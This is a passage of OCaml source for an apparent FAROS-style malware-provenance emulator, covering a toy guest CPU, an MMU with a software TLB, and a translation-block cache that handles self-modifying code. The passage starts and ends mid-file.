    byte-identical).  Counts as one miss — record it with
    {!record_miss}. *)

val lookup : t -> asid:int -> pc:int -> block option

val invalidate_paddr : t -> int -> unit
(** Retire every block whose code bytes share the frame of this physical
    address. *)

val invalidate_asid : t -> int -> unit
(** Retire every block belonging to this address space. *)

val flush : t -> unit

val record_hit : t -> unit
val record_miss : t -> unit

val stats : t -> stats
