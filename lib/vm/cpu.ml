(* The guest CPU.

   [step] executes exactly one instruction and reports an {!effect}: the
   decoded instruction, the physical addresses of its own code bytes, and
   every data load/store it performed with both virtual and physical
   addresses resolved.  The DIFT engine consumes effects to propagate
   provenance without re-implementing address translation, and the kernel
   consumes them to dispatch syscalls.

   Decode and execute are split: [exec] runs an already-decoded
   instruction, which is what lets the translation-block cache skip the
   fetch bytes and the decoder entirely on a cache hit while producing
   byte-identical effects. *)

type t = {
  regs : int array;
  mutable pc : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable cr3 : int;  (* asid of the current address space *)
  mutable halted : bool;
  mutable instr_count : int;
}

let create ~cr3 ~pc ~sp =
  let regs = Array.make Isa.num_regs 0 in
  regs.(Isa.sp) <- sp;
  { regs; pc; zf = false; sf = false; cr3; halted = false; instr_count = 0 }

let get t r = t.regs.(r)
let set t r v = t.regs.(r) <- Word.of_int v

type mem_access = { vaddr : int; paddr : int; width : int }

type effect = {
  e_pc : int;
  e_code_paddrs : int array;  (* physical address of each code byte *)
  e_len : int;
  e_instr : Isa.t;
  e_loads : mem_access list;
  e_stores : mem_access list;
  e_asid : int;
  e_taken : bool option;  (* Some b for executed conditional branches *)
}

type fault =
  | Fault_page of int  (* faulting virtual address *)
  | Fault_decode of int  (* bad opcode *)
  | Fault_halted
  | Fault_breakpoint

type step_result = (effect, fault) result

let effective_address t (a : Isa.addr) =
  let base = match a.base with Some r -> get t r | None -> 0 in
  let index = match a.index with Some r -> get t r * a.scale | None -> 0 in
  Word.of_int (base + index + a.disp)

let set_flags_sub t a b =
  let d = Word.sub a b in
  t.zf <- d = 0;
  t.sf <- Word.to_signed a < Word.to_signed b

(* Execute one already-decoded instruction.  [code_paddrs], when given, is
   the pre-resolved physical address of each code byte (the TB cache
   resolves them once at translation time); when absent they are resolved
   after execution, exactly as the uncached interpreter always did.  On
   fault the CPU state is left at the faulting instruction (pc unchanged)
   so the kernel can report or kill. *)
let exec ?code_paddrs t (mmu : Mmu.t) ~instr ~len : step_result =
  if t.halted then Error Fault_halted
  else begin
    let asid = t.cr3 in
    let pc = t.pc in
    let loads = ref [] and stores = ref [] in
    let read ~width vaddr =
      let paddr = Mmu.translate mmu ~asid vaddr in
      loads := { vaddr; paddr; width } :: !loads;
      Mmu.read ~width mmu ~asid vaddr
    in
    let write ~width vaddr v =
      let paddr = Mmu.translate mmu ~asid vaddr in
      stores := { vaddr; paddr; width } :: !stores;
      Mmu.write ~width mmu ~asid vaddr v
    in
    let push v =
      set t Isa.sp (get t Isa.sp - 4);
      write ~width:4 (get t Isa.sp) v
    in
    let pop () =
      let v = read ~width:4 (get t Isa.sp) in
      set t Isa.sp (get t Isa.sp + 4);
      v
    in
    let next = Word.of_int (pc + len) in
    let taken = ref None in
    let goto target = t.pc <- target in
    let branch cond target =
      taken := Some cond;
      if cond then goto target else goto next
    in
    let alu dst f a b =
      set t dst (f a b);
      goto next
    in
    match
      (match (instr : Isa.t) with
      | Nop -> goto next
      | Halt ->
        t.halted <- true;
        goto next
      | Mov_ri (r, v) ->
        set t r v;
        goto next
      | Mov_rr (a, b) ->
        set t a (get t b);
        goto next
      | Load (w, r, a) ->
        set t r (read ~width:w (effective_address t a));
        goto next
      | Store (w, a, r) ->
        write ~width:w (effective_address t a) (Word.truncate ~width:w (get t r));
        goto next
      | Lea (r, a) ->
        set t r (effective_address t a);
        goto next
      | Push r ->
        push (get t r);
        goto next
      | Pop r ->
        set t r (pop ());
        goto next
      | Add_rr (a, b) -> alu a Word.add (get t a) (get t b)
      | Add_ri (a, v) -> alu a Word.add (get t a) v
      | Sub_rr (a, b) -> alu a Word.sub (get t a) (get t b)
      | Sub_ri (a, v) -> alu a Word.sub (get t a) v
      | Mul_rr (a, b) -> alu a Word.mul (get t a) (get t b)
      | And_rr (a, b) -> alu a Word.logand (get t a) (get t b)
      | And_ri (a, v) -> alu a Word.logand (get t a) v
      | Or_rr (a, b) -> alu a Word.logor (get t a) (get t b)
      | Or_ri (a, v) -> alu a Word.logor (get t a) v
      | Xor_rr (a, b) -> alu a Word.logxor (get t a) (get t b)
      | Xor_ri (a, v) -> alu a Word.logxor (get t a) v
      | Shl_ri (a, v) -> alu a Word.shift_left (get t a) v
      | Shr_ri (a, v) -> alu a Word.shift_right (get t a) v
      | Shl_rr (a, b) -> alu a Word.shift_left (get t a) (get t b land 31)
      | Shr_rr (a, b) -> alu a Word.shift_right (get t a) (get t b land 31)
      | Not_r a ->
        set t a (Word.lognot (get t a));
        goto next
      | Cmp_rr (a, b) ->
        set_flags_sub t (get t a) (get t b);
        goto next
      | Cmp_ri (a, v) ->
        set_flags_sub t (get t a) (Word.of_int v);
        goto next
      | Test_rr (a, b) ->
        let v = Word.logand (get t a) (get t b) in
        t.zf <- v = 0;
        t.sf <- v land 0x80000000 <> 0;
        goto next
      | Jmp target -> goto target
      | Jz target -> branch t.zf target
      | Jnz target -> branch (not t.zf) target
      | Jl target -> branch t.sf target
      | Jge target -> branch (not t.sf) target
      | Jg target -> branch ((not t.sf) && not t.zf) target
      | Jle target -> branch (t.sf || t.zf) target
      | Call target ->
        push next;
        goto target
      | Call_r r ->
        let target = get t r in
        push next;
        goto target
      | Jmp_r r -> goto (get t r)
      | Ret -> goto (pop ())
      | Syscall -> goto next  (* dispatched by the kernel from the effect *)
      | Int3 -> raise Exit)
    with
    | exception Mmu.Page_fault { vaddr; _ } ->
      t.pc <- pc;
      Error (Fault_page vaddr)
    | exception Exit -> Error Fault_breakpoint
    | () ->
      t.instr_count <- t.instr_count + 1;
      let code_paddrs =
        match code_paddrs with
        | Some a -> a
        | None -> Mmu.phys_range_array mmu ~asid pc len
      in
      Ok
        {
          e_pc = pc;
          e_code_paddrs = code_paddrs;
          e_len = len;
          e_instr = instr;
          e_loads = List.rev !loads;
          e_stores = List.rev !stores;
          e_asid = asid;
          e_taken = !taken;
        }
  end

(* Fetch, decode and execute one instruction — the uncached path. *)
let step t (mmu : Mmu.t) : step_result =
  if t.halted then Error Fault_halted
  else
    let asid = t.cr3 in
    let pc = t.pc in
    match
      let fetch off = Mmu.read_u8 mmu ~asid (pc + off) in
      Decode.decode fetch
    with
    | exception Mmu.Page_fault { vaddr; _ } -> Error (Fault_page vaddr)
    | exception Decode.Invalid_opcode _ -> Error (Fault_decode pc)
    | instr, len -> exec t mmu ~instr ~len

let pp_fault ppf = function
  | Fault_page v -> Fmt.pf ppf "page fault at %a" Word.pp v
  | Fault_decode pc -> Fmt.pf ppf "invalid instruction at %a" Word.pp pc
  | Fault_halted -> Fmt.string ppf "halted"
  | Fault_breakpoint -> Fmt.string ppf "breakpoint"
