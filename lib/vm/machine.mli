(** The machine: physical memory, its MMU, and the translation-block cache.

    CPUs (one per guest process, managed by the kernel's scheduler) execute
    against the shared machine.  Execution hooks let whole-system analyses
    — the FAROS plugin in particular — observe every instruction, in the
    same position PANDA's instrumentation occupies over QEMU.

    {!step} executes through the TB cache when enabled; the cached path
    produces byte-identical effects, faults and telemetry versus the
    uncached interpreter (differentially tested), it is just faster. *)

type t = {
  mem : Phys_mem.t;
  mmu : Mmu.t;
  mutable hooks : (Cpu.t -> Cpu.effect -> unit) array;
  tb : Tb_cache.t;
  mutable tb_enabled : bool;
  mutable dift_fast : bool;
  mutable cur_block : Tb_cache.block option;
  mutable cur_idx : int;
  mutable profile : Faros_obs.Profile.t;
}

val tb_default_enabled : bool ref
(** Initial [tb_enabled] for new machines.  Starts [false] when the
    [FAROS_NO_TBCACHE] environment variable is set. *)

val dift_fast_default_enabled : bool ref
(** Initial [dift_fast] for new machines.  Starts [false] when the
    [FAROS_NO_DIFTFAST] environment variable is set. *)

val create : unit -> t

val set_tb_enabled : t -> bool -> unit
(** Disabling also flushes the cache and drops the cursor. *)

val set_dift_fast : t -> bool -> unit
(** Allow the DIFT plugin to skip propagation over blocks whose summary
    proves no tainted state is in reach (see docs/dift-engine.md). *)

val dift_fast_enabled : t -> bool
(** Whether the fast path may be used: the knob is on {e and} the TB cache
    is enabled (summaries only exist on cached blocks). *)

val tb_stats : t -> Tb_cache.stats
val tlb_stats : t -> int * int

val retire_asid : t -> int -> unit
(** Drop all cached blocks of an address space — called on process exit. *)

val add_exec_hook : t -> (Cpu.t -> Cpu.effect -> unit) -> unit
(** Hooks run after each successfully executed instruction, in registration
    order. *)

val clear_exec_hooks : t -> unit

val set_profile : t -> Faros_obs.Profile.t -> unit
(** Attach a span profiler.  {!step} then opens [vm.step] around
    fetch/translate/execute and [vm.hooks] around hook dispatch — the
    boundary between bare execution and analysis cost.  The default
    (disabled) profiler costs one branch per step. *)

val step : t -> Cpu.t -> Cpu.step_result
(** Execute one instruction (cached when possible) plus hook dispatch. *)
