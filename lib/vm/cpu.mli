(** The guest CPU.

    {!step} executes exactly one instruction and reports an {!effect}: the
    decoded instruction, the physical addresses of its own code bytes, and
    every data load/store it performed with both virtual and physical
    addresses resolved.  The DIFT engine consumes effects to propagate
    provenance without re-implementing address translation; the kernel
    consumes them to dispatch syscalls. *)

type t = {
  regs : int array;
  mutable pc : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable cr3 : int;  (** asid of the current address space *)
  mutable halted : bool;
  mutable instr_count : int;
}

val create : cr3:int -> pc:int -> sp:int -> t

val get : t -> Isa.reg -> int
val set : t -> Isa.reg -> int -> unit

type mem_access = { vaddr : int; paddr : int; width : int }

type effect = {
  e_pc : int;
  e_code_paddrs : int array;  (** physical address of each code byte *)
  e_len : int;
  e_instr : Isa.t;
  e_loads : mem_access list;
  e_stores : mem_access list;
  e_asid : int;
  e_taken : bool option;  (** [Some b] for executed conditional branches *)
}

type fault =
  | Fault_page of int  (** faulting virtual address *)
  | Fault_decode of int  (** pc of the undecodable instruction *)
  | Fault_halted
  | Fault_breakpoint

type step_result = (effect, fault) result

val step : t -> Mmu.t -> step_result
(** Fetch, decode and execute one instruction.  On fault the CPU is left at
    the faulting instruction (pc unchanged) so the kernel can report or
    kill. *)

val exec : ?code_paddrs:int array -> t -> Mmu.t -> instr:Isa.t -> len:int -> step_result
(** Execute an already-decoded instruction — the translation-block cache's
    fast path.  [code_paddrs] is the pre-resolved physical address of each
    code byte; when absent it is resolved after execution, exactly as
    {!step} does. *)

val pp_fault : fault Fmt.t
