(** MMU: virtual address spaces over {!Phys_mem}.

    Each guest process owns one address space; its identifier plays the
    role x86's CR3 plays in the paper — the architecture-level identity of
    a process, and the value FAROS uses for process tags.  The kernel
    region is a set of frames mapped (shared) into every address space,
    which is what lets export-table tags, attached to physical bytes, be
    visible from any process.

    Translation runs behind a direct-mapped software TLB; mapping
    mutations flush it.  The module also carries the self-modifying-code
    plumbing the translation-block cache relies on: frames holding cached
    code are marked, stores into them are reported through
    [on_code_write], and mapping changes through [on_mapping_change]. *)

type space = {
  asid : int;  (** the "CR3" value *)
  mutable space_name : string;
  table : (int, int) Hashtbl.t;  (** vpn -> pfn *)
}

type t = {
  mem : Phys_mem.t;
  spaces : (int, space) Hashtbl.t;
  mutable next_asid : int;
  tlb_tags : int array;
  tlb_pfns : int array;
  mutable tlb_hits : int;
  mutable tlb_misses : int;
  mutable code_pages : Bytes.t;
  mutable on_code_write : int -> unit;
  mutable on_mapping_change : int -> unit;
}

exception Page_fault of { asid : int; vaddr : int }

val page_size : int
val page_shift : int

val create : Phys_mem.t -> t
val create_space : t -> name:string -> space
val destroy_space : t -> space -> unit
val find_space : t -> int -> space

val space_name : t -> int -> string
(** Display name for an address space (process image name). *)

val set_smc_hooks :
  t -> on_code_write:(int -> unit) -> on_mapping_change:(int -> unit) -> unit
(** Subscribe the TB cache: [on_code_write paddr] fires on every store into
    a frame marked by {!mark_code_page}; [on_mapping_change asid] fires on
    every map / map_frames / unmap / destroy_space of that space. *)

val mark_code_page : t -> int -> unit
(** Mark a frame as holding cached code so stores into it are reported. *)

val clear_code_page : t -> int -> unit

val flush_tlb : t -> unit

val tlb_stats : t -> int * int
(** [(hits, misses)] of the software TLB since creation. *)

val map : t -> space -> vaddr:int -> pages:int -> unit
(** Map fresh zero frames at a page-aligned virtual address. *)

val map_frames : t -> space -> vaddr:int -> int list -> unit
(** Map existing frames (sharing). *)

val unmap : t -> space -> vaddr:int -> pages:int -> unit

val frames_of : space -> vaddr:int -> pages:int -> int list
(** Frame numbers backing a mapped range.  Raises {!Page_fault} on holes. *)

val is_mapped : space -> vaddr:int -> bool

val mapped_ranges : space -> (int * int) list
(** Contiguous mapped ranges as (vaddr, byte length), sorted. *)

val translate : t -> asid:int -> int -> int
(** Virtual to physical.  Raises {!Page_fault}. *)

val read_u8 : t -> asid:int -> int -> int
val write_u8 : t -> asid:int -> int -> int -> unit

val read : width:int -> t -> asid:int -> int -> int
(** Little-endian; accesses may span pages. *)

val write : width:int -> t -> asid:int -> int -> int -> unit

val read_bytes : t -> asid:int -> int -> int -> Bytes.t
val write_bytes : t -> asid:int -> int -> Bytes.t -> unit

val phys_range : t -> asid:int -> int -> int -> int list
(** Physical addresses of the [len] bytes starting at a virtual address —
    what kernel events report so taint can follow host-side copies. *)

val phys_range_array : t -> asid:int -> int -> int -> int array
(** {!phys_range} as a flat array — the representation execution effects
    carry so the per-instruction path allocates one block, not a list. *)
