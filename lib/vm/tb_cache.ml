(* Translation-block cache.

   Straight-line instruction runs are decoded once into an immutable array
   of pre-decoded entries — instruction, length, and the pre-resolved
   physical address of every code byte — keyed by (asid, pc).  Subsequent
   visits execute from the cache with no byte fetches and no Decode call,
   the same economy QEMU's TCG gets from never re-translating a hot block.

   Correctness hinges on invalidation, because injected shellcode is
   written and then executed — the exact case FAROS exists to catch:

   - every frame a block's code bytes live in is marked in the MMU
     ({!Mmu.mark_code_page}), so any store into it reaches
     {!invalidate_paddr} and kills the blocks on that frame;
   - any mapping change in an address space (map / map_frames / unmap /
     destroy_space) reaches {!invalidate_asid} and kills all its blocks,
     since translations baked into entries may now be stale;
   - process exit retires the asid's blocks the same way.

   Invalidated blocks flip [b_valid] so a machine cursor still holding one
   drops it before executing another entry. *)

type entry = {
  en_pc : int;
  en_instr : Isa.t;
  en_len : int;
  en_code_paddrs : int array;
}

(* Per-block taint summary, compiled once at decode time.  It
   over-approximates what the DIFT engine could read or write while
   propagating over the block: every register an instruction names
   (operands and effective-address components, reads and writes alike —
   a write matters too, because propagation may *clear* a tainted
   destination), whether any instruction touches guest memory, and
   whether any instruction reads or writes the flags.  The fast path
   checks these against the shadow to decide whether propagation over
   the block can be a no-op; see docs/dift-engine.md for the contract. *)
type summary = {
  su_regs : int;  (* bitmask over Isa.num_regs of registers named *)
  su_mem : bool;  (* loads, stores, push/pop or call frames *)
  su_flags : bool;  (* compares (flag writes) or conditional jumps (reads) *)
}

type block = {
  b_key : int;
  b_asid : int;
  b_entries : entry array;
  b_pfns : int array;  (* distinct frames holding this block's code bytes *)
  b_summary : summary;
  mutable b_valid : bool;
}

type t = {
  mmu : Mmu.t;
  blocks : (int, block) Hashtbl.t;  (* key -> block *)
  by_pfn : (int, block list ref) Hashtbl.t;
  page_refs : (int, int ref) Hashtbl.t;  (* pfn -> live block count *)
  mutable hits : int;
  mutable misses : int;
  mutable invalidations : int;
  mutable summarized : int;  (* blocks whose summary was ever compiled *)
}

type stats = {
  st_hits : int;
  st_misses : int;
  st_invalidations : int;
  st_blocks : int;
  st_summarized : int;
}

(* Blocks are bounded so an invalidation never throws away more than a
   basic block's worth of decode work. *)
let max_entries = 32

let key ~asid ~pc = (asid lsl 32) lor pc

let create mmu =
  {
    mmu;
    blocks = Hashtbl.create 256;
    by_pfn = Hashtbl.create 64;
    page_refs = Hashtbl.create 64;
    hits = 0;
    misses = 0;
    invalidations = 0;
    summarized = 0;
  }

let stats t =
  {
    st_hits = t.hits;
    st_misses = t.misses;
    st_invalidations = t.invalidations;
    st_blocks = Hashtbl.length t.blocks;
    st_summarized = t.summarized;
  }

(* -- registration / retirement ------------------------------------------- *)

let ref_page t pfn =
  match Hashtbl.find_opt t.page_refs pfn with
  | Some r -> incr r
  | None ->
    Hashtbl.replace t.page_refs pfn (ref 1);
    Mmu.mark_code_page t.mmu pfn

let unref_page t pfn =
  match Hashtbl.find_opt t.page_refs pfn with
  | Some r ->
    decr r;
    if !r <= 0 then begin
      Hashtbl.remove t.page_refs pfn;
      Mmu.clear_code_page t.mmu pfn
    end
  | None -> ()

let retire_block t b =
  if b.b_valid then begin
    b.b_valid <- false;
    t.invalidations <- t.invalidations + 1;
    Hashtbl.remove t.blocks b.b_key;
    Array.iter
      (fun pfn ->
        (match Hashtbl.find_opt t.by_pfn pfn with
        | Some l -> l := List.filter (fun b' -> b' != b) !l
        | None -> ());
        unref_page t pfn)
      b.b_pfns
  end

let register t b =
  Hashtbl.replace t.blocks b.b_key b;
  Array.iter
    (fun pfn ->
      ref_page t pfn;
      match Hashtbl.find_opt t.by_pfn pfn with
      | Some l -> l := b :: !l
      | None -> Hashtbl.replace t.by_pfn pfn (ref [ b ]))
    b.b_pfns

(* -- invalidation -------------------------------------------------------- *)

let invalidate_paddr t paddr =
  let pfn = paddr lsr Mmu.page_shift in
  match Hashtbl.find_opt t.by_pfn pfn with
  | Some l ->
    let bs = !l in
    l := [];
    List.iter (retire_block t) bs
  | None -> ()

let invalidate_asid t asid =
  let victims =
    Hashtbl.fold (fun _ b acc -> if b.b_asid = asid then b :: acc else acc) t.blocks []
  in
  List.iter (retire_block t) victims

let flush t =
  let victims = Hashtbl.fold (fun _ b acc -> b :: acc) t.blocks [] in
  List.iter (retire_block t) victims

(* -- taint summaries ------------------------------------------------------ *)

let reg_bit r = 1 lsl r

let addr_regs (a : Isa.addr) =
  (match a.base with Some r -> reg_bit r | None -> 0)
  lor match a.index with Some r -> reg_bit r | None -> 0

(* What one instruction exposes to the propagation engine.  Registers are
   collected for every operand position — the engine may read them
   (sources, address dependencies) or overwrite their shadow (destinations,
   including clears) — so the summary deliberately over-approximates: a
   register the engine happens to ignore (e.g. [Not_r]'s operand) only
   costs a spurious slow-path run, never a missed propagation. *)
let summarize_instr (i : Isa.t) =
  match i with
  | Isa.Nop | Halt | Syscall | Int3 | Jmp _ | Ret -> (0, false, false)
  | Mov_ri (r, _) | Add_ri (r, _) | Sub_ri (r, _) | And_ri (r, _)
  | Or_ri (r, _) | Xor_ri (r, _) | Shl_ri (r, _) | Shr_ri (r, _) | Not_r r ->
    (reg_bit r, false, false)
  | Mov_rr (a, b) | Add_rr (a, b) | Sub_rr (a, b) | Mul_rr (a, b)
  | And_rr (a, b) | Or_rr (a, b) | Xor_rr (a, b) | Shl_rr (a, b)
  | Shr_rr (a, b) ->
    (reg_bit a lor reg_bit b, false, false)
  | Load (_, r, a) | Store (_, a, r) -> (reg_bit r lor addr_regs a, true, false)
  | Lea (r, a) -> (reg_bit r lor addr_regs a, false, false)
  | Push r | Pop r -> (reg_bit r, true, false)
  | Call _ -> (0, true, false)  (* the pushed return slot is cleared *)
  | Call_r r -> (reg_bit r, true, false)
  | Jmp_r r -> (reg_bit r, false, false)
  | Cmp_rr (a, b) | Test_rr (a, b) -> (reg_bit a lor reg_bit b, false, true)
  | Cmp_ri (a, _) -> (reg_bit a, false, true)
  | Jz _ | Jnz _ | Jl _ | Jge _ | Jg _ | Jle _ -> (0, false, true)

let summarize entries =
  Array.fold_left
    (fun s e ->
      let regs, mem, flags = summarize_instr e.en_instr in
      {
        su_regs = s.su_regs lor regs;
        su_mem = s.su_mem || mem;
        su_flags = s.su_flags || flags;
      })
    { su_regs = 0; su_mem = false; su_flags = false }
    entries

(* -- translation --------------------------------------------------------- *)

let distinct_pfns entries =
  let seen = Hashtbl.create 4 in
  Array.iter
    (fun e ->
      Array.iter
        (fun paddr ->
          let pfn = paddr lsr Mmu.page_shift in
          if not (Hashtbl.mem seen pfn) then Hashtbl.replace seen pfn ())
        e.en_code_paddrs)
    entries;
  Hashtbl.fold (fun pfn () acc -> pfn :: acc) seen [] |> Array.of_list

(* Decode a straight-line run starting at (asid, pc).  A decode failure or
   page fault mid-run truncates the block so the fault is rediscovered by
   the uncached path at the exact pc; failure on the very first
   instruction yields [None] and the caller falls back to {!Cpu.step},
   keeping fault behavior byte-identical. *)
let translate t ~asid ~pc =
  let mmu = t.mmu in
  let entries = ref [] in
  let count = ref 0 in
  let cur = ref pc in
  let stop = ref false in
  while (not !stop) && !count < max_entries do
    let start = !cur in
    match
      let fetch off = Mmu.read_u8 mmu ~asid (start + off) in
      Decode.decode fetch
    with
    | exception (Mmu.Page_fault _ | Decode.Invalid_opcode _) -> stop := true
    | instr, len ->
      let code_paddrs = Array.init len (fun i -> Mmu.translate mmu ~asid (start + i)) in
      entries := { en_pc = start; en_instr = instr; en_len = len; en_code_paddrs = code_paddrs } :: !entries;
      incr count;
      cur := Word.of_int (start + len);
      (* End the block at anything that redirects control: the next pc is
         only known at execution time.  Halt and Int3 stop execution
         outright; Syscall stays in-block because the handler that may
         move pc runs between machine steps and the cursor re-checks pc. *)
      (match instr with
      | Halt | Int3 -> stop := true
      | i -> if Isa.is_branch i then stop := true)
  done;
  match !entries with
  | [] -> None
  | es ->
    let b_entries = Array.of_list (List.rev es) in
    let b =
      {
        b_key = key ~asid ~pc;
        b_asid = asid;
        b_entries;
        b_pfns = distinct_pfns b_entries;
        b_summary = summarize b_entries;
        b_valid = true;
      }
    in
    t.summarized <- t.summarized + 1;
    register t b;
    Some b

let lookup t ~asid ~pc = Hashtbl.find_opt t.blocks (key ~asid ~pc)

let record_hit t = t.hits <- t.hits + 1
let record_miss t = t.misses <- t.misses + 1
