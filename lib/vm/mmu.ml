(* MMU: virtual address spaces over {!Phys_mem}.

   Each guest process owns one address space; its identifier plays the role
   x86's CR3 plays in the paper — the architecture-level identity of a
   process, and the value FAROS uses for process tags.  The kernel region is
   a set of frames mapped (shared) into every address space, which is what
   lets export-table tags, attached to physical bytes, be visible from any
   process.

   Two concerns beyond plain translation live here because every guest
   memory access funnels through this module:

   - a direct-mapped software TLB in front of the space/page hashtable
     pair, so the per-instruction fetch/load/store path costs one array
     probe instead of two hashtable lookups;
   - self-modifying-code tracking for the translation-block cache: frames
     holding cached code are marked, [write_u8] reports stores into them,
     and every mapping change (map / map_frames / unmap / destroy_space)
     reports the affected address space.  The TB cache subscribes to both
     via {!set_smc_hooks}. *)

type space = {
  asid : int;  (* the "CR3" value *)
  mutable space_name : string;
  table : (int, int) Hashtbl.t;  (* vpn -> pfn *)
}

(* Direct-mapped TLB.  Tags pack (asid, vpn); vaddrs are 32-bit so vpn
   fits in 20 bits.  An empty slot holds tag -1, which no real (asid, vpn)
   produces. *)
let tlb_bits = 10
let tlb_size = 1 lsl tlb_bits

type t = {
  mem : Phys_mem.t;
  spaces : (int, space) Hashtbl.t;
  mutable next_asid : int;
  tlb_tags : int array;  (* (asid lsl 20) lor vpn, or -1 *)
  tlb_pfns : int array;
  mutable tlb_hits : int;
  mutable tlb_misses : int;
  mutable code_pages : Bytes.t;  (* pfn -> '\001' when cached code lives there *)
  mutable on_code_write : int -> unit;  (* paddr of a store into a code page *)
  mutable on_mapping_change : int -> unit;  (* asid whose mappings changed *)
}

exception Page_fault of { asid : int; vaddr : int }

let page_size = Phys_mem.page_size
let page_shift = Phys_mem.page_shift

let create mem =
  {
    mem;
    spaces = Hashtbl.create 16;
    next_asid = 1;
    tlb_tags = Array.make tlb_size (-1);
    tlb_pfns = Array.make tlb_size 0;
    tlb_hits = 0;
    tlb_misses = 0;
    code_pages = Bytes.make 256 '\000';
    on_code_write = ignore;
    on_mapping_change = ignore;
  }

let set_smc_hooks t ~on_code_write ~on_mapping_change =
  t.on_code_write <- on_code_write;
  t.on_mapping_change <- on_mapping_change

(* -- TLB ----------------------------------------------------------------- *)

let flush_tlb t = Array.fill t.tlb_tags 0 tlb_size (-1)

let tlb_stats t = (t.tlb_hits, t.tlb_misses)

(* Any mapping mutation flushes the whole TLB (they are orders of magnitude
   rarer than translations) and reports the space to the TB cache. *)
let mapping_changed t asid =
  flush_tlb t;
  t.on_mapping_change asid

(* -- code-page marks ----------------------------------------------------- *)

let mark_code_page t pfn =
  let len = Bytes.length t.code_pages in
  if pfn >= len then begin
    let grown = Bytes.make (max (2 * len) (pfn + 1)) '\000' in
    Bytes.blit t.code_pages 0 grown 0 len;
    t.code_pages <- grown
  end;
  Bytes.unsafe_set t.code_pages pfn '\001'

let clear_code_page t pfn =
  if pfn < Bytes.length t.code_pages then Bytes.unsafe_set t.code_pages pfn '\000'

(* -- spaces -------------------------------------------------------------- *)

let create_space t ~name =
  let asid = t.next_asid in
  t.next_asid <- asid + 1;
  let s = { asid; space_name = name; table = Hashtbl.create 64 } in
  Hashtbl.replace t.spaces asid s;
  s

let destroy_space t space =
  Hashtbl.remove t.spaces space.asid;
  mapping_changed t space.asid

let find_space t asid =
  match Hashtbl.find_opt t.spaces asid with
  | Some s -> s
  | None -> raise (Page_fault { asid; vaddr = -1 })

let space_name t asid =
  match Hashtbl.find_opt t.spaces asid with
  | Some s -> s.space_name
  | None -> Printf.sprintf "asid%d" asid

(* Map [pages] fresh zero frames at [vaddr] (page aligned). *)
let map t space ~vaddr ~pages =
  let vpn0 = vaddr lsr page_shift in
  for i = 0 to pages - 1 do
    Hashtbl.replace space.table (vpn0 + i) (Phys_mem.alloc_frame t.mem)
  done;
  mapping_changed t space.asid

(* Map existing frames (sharing) at [vaddr]. *)
let map_frames t space ~vaddr pfns =
  let vpn0 = vaddr lsr page_shift in
  List.iteri (fun i pfn -> Hashtbl.replace space.table (vpn0 + i) pfn) pfns;
  mapping_changed t space.asid

let unmap t space ~vaddr ~pages =
  let vpn0 = vaddr lsr page_shift in
  for i = 0 to pages - 1 do
    Hashtbl.remove space.table (vpn0 + i)
  done;
  mapping_changed t space.asid

let frames_of space ~vaddr ~pages =
  let vpn0 = vaddr lsr page_shift in
  List.init pages (fun i ->
      match Hashtbl.find_opt space.table (vpn0 + i) with
      | Some pfn -> pfn
      | None -> raise (Page_fault { asid = space.asid; vaddr = (vpn0 + i) lsl page_shift }))

let is_mapped space ~vaddr = Hashtbl.mem space.table (vaddr lsr page_shift)

let mapped_ranges space =
  let vpns = Hashtbl.fold (fun vpn _ acc -> vpn :: acc) space.table [] in
  let vpns = List.sort compare vpns in
  let rec group acc cur = function
    | [] -> List.rev (match cur with None -> acc | Some r -> r :: acc)
    | vpn :: rest -> (
      match cur with
      | Some (lo, hi) when vpn = hi + 1 -> group acc (Some (lo, vpn)) rest
      | Some r -> group (r :: acc) (Some (vpn, vpn)) rest
      | None -> group acc (Some (vpn, vpn)) rest)
  in
  group [] None vpns
  |> List.map (fun (lo, hi) -> (lo lsl page_shift, (hi - lo + 1) * page_size))

(* Hot path: one tag compare on a TLB hit; the hashtable pair only on a
   miss, which then fills the slot. *)
let translate t ~asid vaddr =
  let vpn = vaddr lsr page_shift in
  let idx = (vpn lxor (asid * 0x9E37)) land (tlb_size - 1) in
  let tag = (asid lsl 20) lor vpn in
  if Array.unsafe_get t.tlb_tags idx = tag then begin
    t.tlb_hits <- t.tlb_hits + 1;
    (Array.unsafe_get t.tlb_pfns idx lsl page_shift) lor (vaddr land (page_size - 1))
  end
  else begin
    t.tlb_misses <- t.tlb_misses + 1;
    let space = find_space t asid in
    match Hashtbl.find_opt space.table vpn with
    | Some pfn ->
      Array.unsafe_set t.tlb_tags idx tag;
      Array.unsafe_set t.tlb_pfns idx pfn;
      (pfn lsl page_shift) lor (vaddr land (page_size - 1))
    | None -> raise (Page_fault { asid; vaddr })
  end

let read_u8 t ~asid vaddr = Phys_mem.read_u8 t.mem (translate t ~asid vaddr)

let write_u8 t ~asid vaddr v =
  let paddr = translate t ~asid vaddr in
  Phys_mem.write_u8 t.mem paddr v;
  (* SMC check: a store into a frame holding cached code must reach the TB
     cache.  One bounds check plus one byte load when the frame is clean. *)
  let pfn = paddr lsr page_shift in
  if pfn < Bytes.length t.code_pages && Bytes.unsafe_get t.code_pages pfn <> '\000'
  then t.on_code_write paddr

(* Multi-byte accesses translate per byte so they may legally span pages. *)
let read ~width t ~asid vaddr =
  let rec go i acc =
    if i >= width then acc
    else go (i + 1) (acc lor (read_u8 t ~asid (vaddr + i) lsl (8 * i)))
  in
  go 0 0

let write ~width t ~asid vaddr v =
  for i = 0 to width - 1 do
    write_u8 t ~asid (vaddr + i) ((v lsr (8 * i)) land 0xFF)
  done

let read_bytes t ~asid vaddr len =
  let b = Bytes.create len in
  for i = 0 to len - 1 do
    Bytes.set b i (Char.chr (read_u8 t ~asid (vaddr + i)))
  done;
  b

let write_bytes t ~asid vaddr b =
  for i = 0 to Bytes.length b - 1 do
    write_u8 t ~asid (vaddr + i) (Char.code (Bytes.get b i))
  done

(* Physical addresses of the [len] bytes starting at [vaddr]. *)
let phys_range t ~asid vaddr len =
  List.init len (fun i -> translate t ~asid (vaddr + i))

let phys_range_array t ~asid vaddr len =
  Array.init len (fun i -> translate t ~asid (vaddr + i))
