(* The corpus-campaign driver: FAROS's evaluation (Tables II-IV) as one
   embarrassingly-parallel workload.

   Every sample is one job on the {!Pool}: install a fresh provenance
   store (per-job isolation — see the domain-safety contract in
   docs/farm.md), analyze under the given config with a tick budget and a
   wall-clock deadline, and reduce the outcome to plain data (strings and
   ints — nothing that refers back to the job's interner or kernel).  A
   raising sample becomes an [Error] verdict, a deadline overrun becomes
   [Timeout]; neither aborts the campaign.

   Results come back in submission order regardless of completion order
